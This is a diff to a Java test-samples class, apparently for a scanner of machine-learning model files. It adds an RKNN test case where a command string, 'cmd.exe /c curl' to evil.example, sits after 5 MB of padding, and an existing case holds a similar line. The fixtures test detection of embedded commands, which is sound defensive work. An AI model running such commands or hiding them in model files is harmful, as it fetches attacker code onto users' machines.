@@ -19,6 +19,11 @@ public final class EngineSamples {
                 FormatCase.of("x.feather", little("FEA1", 0)),
                 FormatCase.of("x.param", little("7767517\n3 3\nInput data 0 1 data\n")),
                 FormatCase.of(
+                        "second-half.rknn",
+                        little("RKNN", 1, new byte[5 << 20], "note=cmd.exe /c curl https://evil.example/x\n"),
+                        "model/engine-program",
+                        "model/embedded-command"),
+                FormatCase.of(
                         "command.rknn",
                         little("RKNN", 1, "note=cmd.exe /c curl https://evil.example/payload\n"),
                         "model/engine-program",
